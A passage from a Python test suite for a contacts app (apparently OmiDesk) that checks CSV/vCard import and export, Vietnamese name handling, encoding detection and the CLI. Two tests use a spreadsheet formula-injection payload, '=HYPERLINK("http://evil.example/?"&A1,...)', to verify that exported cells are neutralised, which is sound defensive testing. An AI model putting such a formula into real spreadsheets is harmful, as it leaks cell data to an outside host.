    Contact(name="'Quote at the start", phones=(Phone.parse("0912 345 670"),)),
    Contact(name="Trần @ Công ty", company="@Home", phones=(Phone.parse("0912 345 671"),)),
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_the_csv_export_neutralises_every_formula_and_imports_back(
    tmp_path: Path, store: ContactStore
) -> None:
    store.add(HOSTILE)
    for contact in QUOTED:
        store.add(contact)
    original = summary(store)
    path = tmp_path / "out.csv"
    assert export_csv(store, path) == 5
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert "'+84 90 123 4567" in cells  # a number as written, quoted like any cell
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn An")' in cells
    assert "''=already quoted" in cells and "'''+twice" in cells
    assert "'Quote at the start" in cells  # no formula after it: left alone
    with Database(tmp_path / "again.sqlite3") as again:
        report = import_file(again, path)
        assert (report.imported, len(report.skipped)) == (5, 0)
        assert summary(ContactStore(again)) == original
        back = {c.name: c for c in ContactStore(again).search("", limit=10)}
        hostile = back[HOSTILE.name]
        assert [(p.number, p.valid, p.e164) for p in hostile.phones] == [
            ("+84 90 123 4567", True, "+84901234567"),
            ("-1+2", False, None),
            ("=0901234568", True, "+84901234568"),
        ]


def test_a_quote_before_a_formula_is_taken_off_on_import(
    tmp_path: Path, store: ContactStore
) -> None:
    # What a spreadsheet (or OmiDesk) wrote to keep cells from running: the quote goes.
    path = tmp_path / "quoted.csv"
    path.write_text(
        "Họ tên,Điện thoại,Ghi chú\n"
        "'-Phạm Thị Thu Hà,'+84 90 123 4567,'=chú ý\n"
        "'Ông Tư,'0912 345 678,''@nhắc\n",
        encoding="utf-8",
    )
    seen = preview(path)
    assert seen.rows[0] == ["-Phạm Thị Thu Hà", "+84 90 123 4567", "=chú ý"]
    import_file(store.db, path)
    people = everyone(store)
    assert numbers(people["-Phạm Thị Thu Hà"]) == [("+84 90 123 4567", "")]
    assert people["-Phạm Thị Thu Hà"].note == "=chú ý"
    # A quote before anything else is the cell's own text.
    assert numbers(people["'Ông Tư"]) == [("'0912 345 678", "")]
    assert people["'Ông Tư"].note == "'@nhắc"


def test_export_refuses_an_unknown_extension_or_folder(tmp_path: Path, store: ContactStore) -> None:
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(ContactFileError) as raised:
        export_file(store, out / "contacts.xlsx")
    assert raised.value.code == "export_unknown_format"
    with pytest.raises(ContactFileError) as raised:
        export_file(store, out / "missing" / "contacts.csv")
    assert raised.value.code == "export_failed"
    assert list(out.iterdir()) == []


# --- the report -----------------------------------------------------------------------------------


def test_the_report_saves_as_a_spreadsheet_in_the_agents_language(
    tmp_path: Path, db: Database
) -> None:
    report = import_file(db, DATA / "google_contacts.csv")
    path = tmp_path / "report.csv"
    save_report(report, path, "vi")
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0] == ["Dòng", "Tên", "Lý do", "Chi tiết"]
    assert rows[1][:3] == ["11", "Ngô Thanh Vân", "Không có số điện thoại: không được nhập."]
    assert [row[0] for row in rows[1:]] == ["11", "12", "13"]
    as_json = report.to_json()
    assert {key: as_json[key] for key in ("total", "imported", "merged", "flagged", "skipped")} == {
        "total": 20,
        "imported": 18,
        "merged": 1,
        "flagged": 2,
        "skipped": 1,
    }
    assert as_json["skipped_rows"][0]["reason"] == "import_no_number"
    json.dumps(as_json)


def test_the_saved_report_neutralises_formulas_too(tmp_path: Path, db: Database) -> None:
    path = tmp_path / "hostile.csv"
    path.write_text(
        'Name,Phone\n"=HYPERLINK(""http://evil.example"",""x"")",\n@SUM(1),0901 23\n',
        encoding="utf-8",
    )
    report = import_file(db, path)
    assert [issue.name for issue in report.rows()] == [
        '=HYPERLINK("http://evil.example","x")',
        "@SUM(1)",
    ]
    saved = tmp_path / "report.csv"
    save_report(report, saved, "en")
    with saved.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert rows[1][:2] == ["2", '\'=HYPERLINK("http://evil.example","x")']
    assert rows[2][:2] == ["3", "'@SUM(1)"]


# --- the pieces -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "middle", "family", "name"),
    [
        ("Hà", "Thị Thu", "Phạm", "Phạm Thị Thu Hà"),
        ("Ha", "Thi Thu", "Pham", "Pham Thi Thu Ha"),  # no accents: the family name tells
        ("John", "Paul", "Smith", "John Paul Smith"),
        ("José", "", "García", "José García"),  # é and í are not only Vietnamese
        ("Hélène", "", "Dubois", "Hélène Dubois"),
        ("An", "", "", "An"),
        ("", "", "Đặng", "Đặng"),
    ],
)
def test_names_compose_in_the_order_their_language_reads(
    given: str, middle: str, family: str, name: str
) -> None:
    assert compose(given, middle, family) == name


@pytest.mark.parametrize(
    ("headers", "mapping"),
    [
        (
            ["Họ", "Tên", "SĐT", "Email công ty", "Tên công ty", "Ghi chú"],
            Mapping(family=0, given=1, phones=((2, ""),), email=3, company=4, note=5),
        ),
        (
            ["Họ và tên", "Số điện thoại di động", "Điện thoại cơ quan", "Đơn vị"],
            Mapping(name=0, phones=((1, "Mobile"), (2, "Work")), company=3),
        ),
        (
            ["Full name", "Mobile", "Business phone", "Home Phone", "Fax", "E-mail"],
            Mapping(name=0, phones=((1, "Mobile"), (2, "Work"), (3, "Home"), (4, "Fax")), email=5),
        ),
    ],
)
def test_column_guess_from_english_and_vietnamese_headers(
    headers: list[str], mapping: Mapping
) -> None:
    assert layout_for(headers, [], has_header=True).mapping == mapping


def test_column_guess_from_cells_when_headers_say_nothing() -> None:
    sample = [
        ["KH001", "Nguyễn Văn An", "0901 234 567", "an@x.vn"],
        ["KH002", "Trần Thị Bích", "0912.345.678", ""],
        ["KH003", "Lê Nam", "+84 983 456 789", "nam@y.vn"],
    ]
    layout = layout_for(["Mã", "Khách", "Liên lạc", "Thư"], sample, has_header=True)
    assert layout.mapping == Mapping(name=1, phones=((2, ""),), email=3)


@pytest.mark.parametrize(
    ("sample", "delimiter"),
    [
        ("Name,Phone\nAn,0901\n", ","),
        ("Họ tên;Điện thoại\nAn;0901\n", ";"),
        ("Tên\tSĐT\nAn\t0901\n", "\t"),
        ('"Tên; đệm",Phone\n"A; B",0901\n', ","),
        ("Name\nAn\n", ","),
    ],
)
def test_delimiter_is_sniffed(sample: str, delimiter: str) -> None:
    assert sniff_delimiter(sample) == delimiter


def test_encodings_are_told_apart(tmp_path: Path) -> None:
    text = "Họ tên,Điện thoại\nNguyễn Thị Hương,0901234567\n"
    cases = {
        "utf-8": text.encode("utf-8"),
        "utf-8-sig": text.encode("utf-8-sig"),
        "utf-16": text.encode("utf-16"),
        "utf-16-le": text.encode("utf-16-le"),
        "cp1252": "Name,Phone\nJoão Müller,0901234567\n".encode("cp1252"),
    }
    for expected, data in cases.items():
        path = tmp_path / f"{expected}.csv"
        path.write_bytes(data)
        assert detect(path, data) == expected
    # Windows-1258 text: tones as combining marks make Vietnamese vowels.
    assert vietnamese_evidence("Nguyê\u0303n Thi\u0323 Hương") == (3, 7)
    assert vietnamese_evidence("Niccol\u0323 \u0303or") == (0, -6)


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n '\"a9đ;,")) | st.text())
def test_a_neutralised_cell_runs_nothing_and_reads_back_as_it_was(text: str) -> None:
    cell = formulas.neutralise(text)
    assert not cell.lstrip(" ").startswith(FORMULA_START)
    assert formulas.restore(cell) == text
    assert formulas.restore_row([text, cell]) == [formulas.restore(text), text]


def test_vcard_lines_fold_without_splitting_a_character() -> None:
    line = "NOTE:" + "Đặng Thị Hương " * 12
    folded = fold_line(line)
    pieces = folded.encode("utf-8").split(b"\r\n")
    assert all(len(piece) <= 75 for piece in pieces)
    assert folded.replace("\r\n ", "") == line + "\r\n"


# --- the layers ---------------------------------------------------------------------------------

# What touches the disk: a call of one of these, or an import of one of these modules.
_FILE_CALLS = frozenset(
    {"open", "stat", "read_bytes", "read_text", "write_bytes", "write_text", "mkstemp", "unlink"}
)
_MACHINE_MODULES = frozenset({"os", "tempfile", "shutil"})
_ADAPTERS = ("omidesk.infra", "omidesk.store", "omidesk.ui")


def _touches_the_machine(path: Path) -> list[str]:
    import ast

    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call):
            func = node.func
            name = func.id if isinstance(func, ast.Name) else getattr(func, "attr", "")
            if name in _FILE_CALLS:
                found.append(f"{path.name}:{node.lineno} {name}()")
        elif isinstance(node, ast.Import | ast.ImportFrom):
            names = [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            names += [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
            for module in names:
                if module.split(".")[0] in _MACHINE_MODULES or module.startswith(_ADAPTERS):
                    found.append(f"{path.name}:{node.lineno} import {module}")
    return found


def test_the_contact_files_domain_opens_no_file_and_the_use_cases_no_adapter() -> None:
    package = ROOT / "omidesk"
    domain = sorted((package / "domain" / "contact_files").glob("*.py"))
    usecases = [
        package / "usecases" / f"{name}.py"
        for name in ("import_contacts", "export_contacts", "contact_book", "call_history")
    ]
    assert domain and all(path.exists() for path in usecases)
    found = [finding for path in [*domain, *usecases] for finding in _touches_the_machine(path)]
    assert found == []


# --- the command line -----------------------------------------------------------------------------


def test_cli_import_json_and_text(tmp_path: Path) -> None:
    result = run_cli("contacts", "import", str(DATA / "google_contacts.csv"), "--json")
    assert result.code == 0, result.err
    report = json.loads(result.out)
    assert (report["imported"], report["merged"], report["flagged"], report["skipped"]) == (
        18,
        1,
        2,
        1,
    )
    assert report["skipped_rows"][0]["name"] == "Ngô Thanh Vân"
    elsewhere = str(tmp_path / "another-home")
    text = run_cli("contacts", "import", str(DATA / "nokia_vcard21.vcf"), OMIDESK_HOME=elsewhere)
    assert text.code == 0
    assert "9 imported, 1 merged" in text.out
    assert "row 8: No phone number: not imported. Võ Minh Tuấn" in text.out
    assert "row 9: Not a valid phone number" in text.out


def test_cli_refuses_an_unusable_file_with_the_catalogue_message() -> None:
    result = run_cli("contacts", "import", str(DATA / "broken_binary.csv"))
    assert result.code == 2
    assert "is not a contacts file" in result.err
    assert "Traceback" not in result.err
    result = run_cli("contacts", "import", str(DATA / "broken_no_phone_column.csv"))
    assert result.code == 2
    assert "No column of phone numbers" in result.err


def test_cli_add_search_and_export(tmp_path: Path) -> None:
    added = run_cli(
        "contacts", "add", "--name", "Đặng Thị Hương", "--phone", "0935 678 901",
        "--phone", "0935 12", "--company", "Highlands Coffee",
    )  # fmt: skip
    assert added.code == 0, added.err
    huong = int(added.out.strip())
    assert "0935 12" in added.err and "marked invalid" in added.err
    assert (
        run_cli("contacts", "add", "--name", "Đặng Hương Giang", "--phone", "0912 000 111").code
        == 0
    )
    assert run_cli("config", "set", "dial_format", "e164").code == 0

    found = run_cli("contacts", "search", "dang huong", "--json")
    assert found.code == 0, found.err
    listed = json.loads(found.out)
    # "Đặng Hương Giang" starts with the words typed: it comes first.
    assert [item["name"] for item in listed] == ["Đặng Hương Giang", "Đặng Thị Hương"]
    assert listed[1] == {
        "id": huong,
        "name": "Đặng Thị Hương",
        "company": "Highlands Coffee",
        "favorite": False,
        "phones": [
            {"number": "0935 678 901", "label": "", "dial": "+84935678901"},
            {"number": "0935 12", "label": "", "dial": None},
        ],
    }
    # An exact name comes first.
    exact = json.loads(run_cli("contacts", "search", "dang huong giang", "--json").out)
    assert [item["name"] for item in exact] == ["Đặng Hương Giang"]
    assert "0935 678 901" in run_cli("contacts", "search", "678901").out

    exported = tmp_path / "out.vcf"
    result = run_cli("contacts", "export", str(exported))
    assert result.code == 0 and "Exported 2 contacts" in result.out
    assert {contact.name for _, contact in read_contacts(exported).contacts} == {
        "Đặng Thị Hương",
        "Đặng Hương Giang",
    }
    assert run_cli("contacts", "export", str(tmp_path / "out.pdf")).code == 2
